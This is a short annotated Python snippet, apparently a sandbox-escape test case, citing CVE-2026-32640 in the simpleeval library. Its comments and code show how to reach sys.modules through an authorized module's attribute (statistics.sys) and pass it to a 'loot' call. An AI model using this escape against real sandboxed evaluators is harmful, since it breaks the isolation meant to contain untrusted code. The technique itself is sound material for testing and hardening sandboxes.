# aim: have a module that somebody handed in inside of another
# mechanism: an attribute of an authorized module, which is a module
# source: CVE-2026-32640 (simpleeval)
# language: view
# reason: a module inside of a module is a view too, or is absent
# jail: process
# plain: loot
import statistics
loot(statistics.sys.modules)
